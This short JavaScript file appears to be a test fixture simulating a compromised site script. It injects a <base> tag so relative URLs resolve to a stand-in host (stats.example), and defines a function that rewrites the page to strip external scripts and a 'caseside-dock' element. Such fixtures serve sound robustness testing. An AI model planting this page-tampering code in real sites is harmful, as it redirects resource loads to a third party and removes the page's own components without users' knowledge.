// A compromised script of the site that makes relative URLs point to another host with an early <base>; `pull(what)` replaces the
// document with a copy, or rewrites it.
(() => {
  const base = document.createElement('base');
  base.href = 'https://stats.example/elsewhere/';
  // After the site's own files were requested, before any script of another world runs.
  document.addEventListener('readystatechange', () => document.head.append(base), { once: true });
})();
window.pull = (what) => {
  const acts = {
    write: () => {
      const before = document.documentElement.outerHTML;
      document.open();
      document.write(
        before.replace(/<script[^>]*src=[^>]*><\/script>/g, '').replace(/<caseside-dock.*<\/caseside-dock>/, ''),
      );
      document.close();
    },
    replace: () => {
      const next = document.documentElement.cloneNode(true);
      next.querySelector('caseside-dock')?.remove();
      document.replaceChild(next, document.documentElement);
    },
  };
  return String(acts[what]());
};
